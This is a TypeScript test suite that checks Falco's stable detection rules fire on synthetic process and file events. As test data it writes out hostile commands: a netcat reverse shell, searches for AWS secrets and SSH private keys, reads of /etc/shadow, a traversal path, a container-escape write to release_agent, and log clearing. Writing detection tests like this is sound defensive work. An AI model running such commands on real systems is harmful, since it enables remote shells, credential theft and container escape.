// Falco's own rule files, unmodified: they load, and the stable rules on exec and open fire for records that should make them.
import assert from 'node:assert/strict'
import { existsSync } from 'node:fs'
import { join, resolve } from 'node:path'
import { packageRoot } from '../../../../infra/package-root.js'
import { createPlainEvaluator } from '../../../../processors/rule-engine/evaluate/plain-evaluator.js'
import type { ContainerKnowledge, RuleRecord } from '../../../../processors/rule-engine/judged-event.js'
import { loadRuleFiles } from '../../../../processors/rule-engine/rule-files.js'
import type { RuleSet } from '../../../../processors/rule-engine/rule-set.js'
import type { Ancestor, Process } from '../../../../schemas/generated/types.js'
import {
  sampleContainerFacts,
  sampleFileEvent,
  sampleOrigin,
  sampleProcess,
  sampleProcessEvent,
} from '../../../support/records/sample-records.js'

const CORPUS = join(process.env['EUNOMIA_SHARED'] ?? resolve(packageRoot(), '../shared'), 'corpora/falco')
const ID = 'f'.repeat(64)
const HOST: ContainerKnowledge = { state: 'host' }
const CONTAINER: ContainerKnowledge = { state: 'known', containerId: ID, facts: sampleContainerFacts() }
const PRIVILEGED: ContainerKnowledge = { state: 'known', containerId: ID, facts: sampleContainerFacts({ isPrivileged: true }) }

const ancestors = (...names: string[]): Ancestor[] =>
  names.map((name, index) => ({ pid: 100 - index, startBootUs: 1, name, exe: name, exePath: null }))

function exec(args: readonly string[], change: Partial<Process> = {}): RuleRecord {
  const name = (args[0] ?? '').slice((args[0] ?? '').lastIndexOf('/') + 1)
  return {
    topic: 'process',
    record: sampleProcessEvent({
      process: sampleProcess({ name, args, exePath: `/usr/bin/${name}`, ancestors: ancestors('bash'), ...change }),
    }),
  }
}

function open(
  path: string,
  how: 'read' | 'write',
  change: Partial<Process> = {},
  more: Partial<ReturnType<typeof sampleFileEvent>> = {},
): RuleRecord {
  const flags = how === 'read' ? 0 : 0o1 | 0o100 | 0o1000
  const record = sampleFileEvent({
    path,
    pathArgument: path,
    isRead: how === 'read',
    isWrite: how === 'write',
    flags,
    process: sampleProcess({ ancestors: ancestors('bash'), ...change }),
    ...more,
  })
  return { topic: 'file', record }
}

const CAP_SYS_ADMIN = 2 ** 21

/** The stable rules on exec and open, an event that each must see, and the nearest that it must not. */
const STABLE: readonly (readonly [rule: string, container: ContainerKnowledge, fires: RuleRecord, silent: RuleRecord])[] = [
  [
    'Directory traversal monitored file read',
    HOST,
    open('/etc/passwd', 'read', { ancestors: ancestors('nginx') }, { pathArgument: '/var/www/../../../etc/passwd' }),
    open('/etc/passwd', 'read', { ancestors: ancestors('nginx') }),
  ],
  [
    'Read sensitive file trusted after startup',
    HOST,
    open('/etc/shadow', 'read', { name: 'nginx', startBootUs: 1 }),
    open('/etc/shadow', 'read', { name: 'nginx', startBootUs: sampleOrigin().bootTimeUs - 1_000_000 }),
  ],
  ['Read sensitive file untrusted', HOST, open('/etc/shadow', 'read'), open('/etc/shadow', 'read', { name: 'sshd' })],
  [
    'Run shell untrusted',
    HOST,
    exec(['sh', '-c', 'id'], { ancestors: ancestors('httpd', 'systemd') }),
    exec(['sh', '-c', 'id'], { ancestors: ancestors('bash', 'sshd') }),
  ],
  [
    'System user interactive',
    HOST,
    exec(['ls'], { user: 'www-data', uid: 33, euid: 33, ancestors: ancestors('bash', 'sshd') }),
    exec(['ls'], { ancestors: ancestors('bash', 'sshd') }),
  ],
  [
    'Terminal shell in container',
    CONTAINER,
    exec(['bash'], { tty: 34816, ancestors: ancestors('runc') }),
    exec(['bash'], { tty: null, ancestors: ancestors('runc') }),
  ],
  ['Netcat Remote Code Execution in Container', CONTAINER, exec(['nc', '-e', '/bin/sh', '10.0.0.1']), exec(['nc', '-z', '10.0.0.1'])],
  ['Search Private Keys or Passwords', HOST, exec(['find', '/', '-name', 'id_rsa']), exec(['find', '/', '-name', 'x'])],
  ['Clear Log Activities', CONTAINER, open('/var/log/access.log', 'write'), open('/var/log/access.log', 'read')],
  ['Remove Bulk Data from Disk', HOST, exec(['shred', '-u', 'x']), exec(['rm', 'x'])],
  ['Debugfs Launched in Privileged Container', PRIVILEGED, exec(['debugfs']), exec(['ls'])],
  [
    'Detect release_agent File Container Escapes',
    CONTAINER,
    open('/sys/fs/cgroup/rdma/release_agent', 'write', { capEffective: CAP_SYS_ADMIN }),
    open('/sys/fs/cgroup/rdma/release_agent', 'write', { capEffective: 0 }),
  ],
  ['Find AWS Credentials', HOST, exec(['grep', '-r', 'aws_secret_access_key', '/']), exec(['grep', '-r', 'x', '/'])],
  ['Execution from /dev/shm', HOST, exec(['/dev/shm/x']), exec(['/opt/x'])],
  ['Drop and execute new binary in container', CONTAINER, exec(['x'], { isExeUpperLayer: true }), exec(['x'])],
  ['Fileless execution via memfd_create', HOST, exec(['x'], { isExeMemfd: true }), exec(['x'])],
]

describe('Falco rule files', function () {
  before(function () {
    if (!existsSync(CORPUS)) {
      console.log(`      skipped: no corpus in ${CORPUS}`)
      this.skip()
    }
  })

  const FILES: readonly (readonly [file: string, rules: number])[] = [
    ['falco_rules.yaml', 25],
    ['falco-incubating_rules.yaml', 31],
    ['falco-sandbox_rules.yaml', 37],
    ['archive/falco-deprecated_rules.yaml', 4],
    ['archive/application_rules.yaml', 0],
  ]
  for (const [file, rules] of FILES) {
    it(`${file} loads unmodified with its ${String(rules)} rules`, () => {
      const result = loadRuleFiles([join(CORPUS, file)])
      assert.deepEqual(result.errors, [])
      assert.equal(result.ruleSet?.rules.length, rules)
    })
  }

  let loaded: RuleSet | null = null
  const stable = (): RuleSet => (loaded ??= loadRuleFiles([join(CORPUS, 'falco_rules.yaml')]).ruleSet ?? assert.fail())

  it('of the stable rules those on exec and open can fire, and all others say why not', () => {
    const set = stable()
    assert.deepEqual(set.activeRules.map((rule) => rule.name).sort(), STABLE.map(([name]) => name).sort())
    for (const rule of set.waitingRules)
      assert.ok(
        rule.unavailable.some((reason) => reason.startsWith('event types not collected yet')),
        rule.name,
      )
  })

  for (const [rule, container, fires, silent] of STABLE) {
    it(`"${rule}" fires for its event and not for the nearest other one`, () => {
      const evaluator = createPlainEvaluator(stable(), { matching: 'all' })
      const names = (event: RuleRecord): string[] => evaluator.judge({ event, container }).matched.map((one) => one.name)
      assert.ok(names(fires).includes(rule), names(fires).join())
      assert.ok(!names(silent).includes(rule))
    })
  }
})
